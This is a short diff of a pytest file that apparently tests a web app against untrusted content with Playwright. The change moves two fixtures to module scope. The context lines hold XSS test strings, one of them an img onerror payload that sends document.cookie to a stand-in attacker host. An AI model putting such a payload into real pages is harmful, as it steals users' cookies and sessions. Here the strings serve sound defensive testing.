@@ -29,7 +29,7 @@ XSS_PAGE = ("# Untrusted\n<script>alert('page')</script>\n[click me](javascript:
 XSS_PROMPT = "<script>alert('hook')</script><img src=x onerror=\"fetch('http://evil.invalid/'+document.cookie)\">"
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def browser():
     sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is in requirements-dev.txt")
     assert Path(CHROMIUM).exists(), "Debian's chromium is missing: apt-get install -y chromium (.ci/run does)"
@@ -48,7 +48,7 @@ def shots(tmp_path) -> Path:
     return d
 
 
-@pytest.fixture
+@pytest.fixture(scope="module")
 def web(web_stack):
     s = web_stack
     s.user(*ANN, ("default", "app", True))
